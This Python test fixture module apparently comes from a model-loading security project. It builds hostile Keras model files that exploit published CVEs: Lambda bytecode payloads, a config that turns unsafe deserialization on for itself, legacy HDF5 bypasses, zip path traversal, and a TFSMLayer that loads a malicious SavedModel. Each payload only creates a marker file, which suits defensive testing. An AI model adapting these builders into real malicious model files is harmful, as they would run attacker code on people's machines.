"""Hostile model files, each carrying a payload that would create a marker file if it ran.

Built the way an attacker would, from the published Keras issues tfxr defends against:

* ``lambda_keras``: a ``.keras`` whose ``config.json`` holds a Lambda layer (marshalled
  Python bytecode that touches the marker);
* ``unsafe_config_keras``: the same, plus a serialized reference to
  ``keras.config.enable_unsafe_deserialization`` ahead of the Lambda (the shape of
  CVE-2025-8747/-9906: the file turns safe mode off for itself);
* ``legacy_h5``: a legacy HDF5 model with that Lambda layer (CVE-2025-9905: ``safe_mode``
  ignored for ``.h5``);
* ``traversal_keras``: a valid ``.keras`` plus archive members named ``../../..`` up to an
  absolute path (CVE-2025-12060); the "marker" is the file they would create;
* ``tfsm_keras``: a ``.keras`` whose ``config.json`` holds a ``TFSMLayer`` pointing at a
  TensorFlow SavedModel whose function writes the marker (CVE-2026-1462).
"""
from __future__ import annotations

import json
import uuid
import zipfile
from pathlib import Path

KINDS = ("lambda_keras", "unsafe_config_keras", "legacy_h5", "traversal_keras", "tfsm_keras")


def _touching_lambda(marker: Path):
    """A function that creates ``marker``, self-contained so Keras can marshal it."""
    return eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]")  # noqa: S307


def _lambda_model(marker: Path):
    import keras

    inputs = keras.Input((64, 64, 1), name="image")
    x = keras.layers.Lambda(_touching_lambda(marker), name="payload")(inputs)
    x = keras.layers.GlobalAveragePooling2D()(x)
    model = keras.Model(inputs, keras.layers.Dense(1, activation="sigmoid")(x))
    if not marker.exists():   # building the model ran the function once: the payload is live
        raise AssertionError("the Lambda payload did not run when called")
    marker.unlink()
    return model


def _rewrite_config(path: Path, edit) -> None:
    """Rewrite ``config.json`` inside the ``.keras`` zip ``path`` with ``edit(config)``."""
    with zipfile.ZipFile(path) as src:
        members = {info.filename: src.read(info) for info in src.infolist()}
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as dst:
        for name, data in members.items():
            dst.writestr(name, data)


def _enable_unsafe(config: dict) -> None:
    flip = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
            "registered_name": "function"}
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Dense":
            layer["config"]["activation"] = flip


def _saved_model_that_writes(directory: Path, marker: Path) -> None:
    import tensorflow as tf

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 64, 64, 1], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(marker), "ran")
            return x

    module = Payload()
    tf.saved_model.save(module, str(directory), signatures={"serve": module.serve})


def _tfsm_keras(path: Path, marker: Path) -> None:
    import keras

    inputs = keras.Input((64, 64, 1), name="image")
    x = keras.layers.Identity(name="tfsm")(inputs)
    x = keras.layers.GlobalAveragePooling2D()(x)
    keras.Model(inputs, keras.layers.Dense(1, activation="sigmoid")(x)).save(str(path))
    saved = path.parent / f"{path.stem}-savedmodel"
    _saved_model_that_writes(saved, marker)

    def edit(config):
        for layer in config["config"]["layers"]:
            if layer["config"].get("name") == "tfsm":
                layer.update(module="keras.layers", class_name="TFSMLayer", registered_name="TFSMLayer")
                layer["config"] = {"name": "tfsm", "filepath": str(saved), "call_endpoint": "serve",
                                   "trainable": False, "dtype": "float32"}
    _rewrite_config(path, edit)


def _traversal_keras(path: Path, escape: Path) -> None:
    from tfxr.models import build_model

    build_model("tb_cnn", 64).save(str(path))
    climb = "../" * 16 + str(escape).lstrip("/")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(climb, b"escaped")
        archive.writestr("assets/" + climb, b"escaped")


def build(kind: str, folder: Path, name: str | None = None) -> tuple[Path, Path]:
    """(crafted file, marker that must never exist) of ``kind``, written under ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    marker = folder / f"PWNED-{kind}"
    if kind == "traversal_keras":   # what the archive's members would create by escaping
        marker = Path("/tmp") / f"tfxr-escape-{uuid.uuid4().hex}"
    suffix = ".h5" if kind == "legacy_h5" else ".keras"
    path = folder / (name or f"{kind}{suffix}")
    if kind in ("lambda_keras", "unsafe_config_keras", "legacy_h5"):
        _lambda_model(marker).save(str(path))
        if kind == "unsafe_config_keras":
            _rewrite_config(path, _enable_unsafe)
    elif kind == "traversal_keras":
        _traversal_keras(path, marker)
    elif kind == "tfsm_keras":
        _tfsm_keras(path, marker)
    else:
        raise ValueError(kind)
    assert not marker.exists()
    return path, marker
